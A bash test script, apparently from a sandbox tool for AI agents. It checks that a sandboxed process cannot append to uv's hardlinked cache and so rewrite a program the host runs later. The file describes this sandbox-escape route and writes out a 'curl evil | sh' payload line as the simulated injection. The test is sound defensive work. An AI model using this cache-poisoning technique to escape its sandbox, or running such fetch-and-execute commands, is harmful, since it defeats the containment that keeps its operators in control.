#!/usr/bin/env bash
# Attack: uv hardlinks the files of its cache (~/.cache/uv) into the virtual environments it
# makes, so a sandbox that may write the cache rewrites a program the host runs later (here
# ~/venv/bin/tool, one inode with ~/.cache/uv/archive/tool). ~/.cache/uv was writable by default
# (agent-sandbox's HOME_WRITABLE). Expected: not by default, on both backends (ENOENT in the ns
# backend's tmpfs home, EACCES under landlock) and the host file unchanged. Control: with
# HOME_WRITABLE+=(.cache/uv) the same write goes through.
. "$(dirname "$0")/../lib/tap.sh"

mkdir -p "$HOME/.cache/uv/archive" "$HOME/venv/bin"
echo "echo host tool" > "$HOME/.cache/uv/archive/tool"
ln "$HOME/.cache/uv/archive/tool" "$HOME/venv/bin/tool"
append='open(p, "a").write("curl evil | sh\n")'
run() { (cd "$T_PROJECT" && "$CORDON" run --quiet --backend "$1" "${@:2}" -- \
        python3 -c "$TRY" "$append" "$HOME/.cache/uv/archive/tool" 2>/dev/null); }

plan 4
check "ns: appending to the cached file: ENOENT (not in the tmpfs home)" "ENOENT" "$(run ns)"
check "landlock: appending to the cached file: EACCES" "EACCES" "$(run landlock)"
check "the host's venv program is unchanged" "echo host tool" "$(cat "$HOME/venv/bin/tool")"
check "control: with HOME_WRITABLE .cache/uv the write goes through" "OK:15" \
        "$(run ns --set HOME_WRITABLE=.cache/uv)"
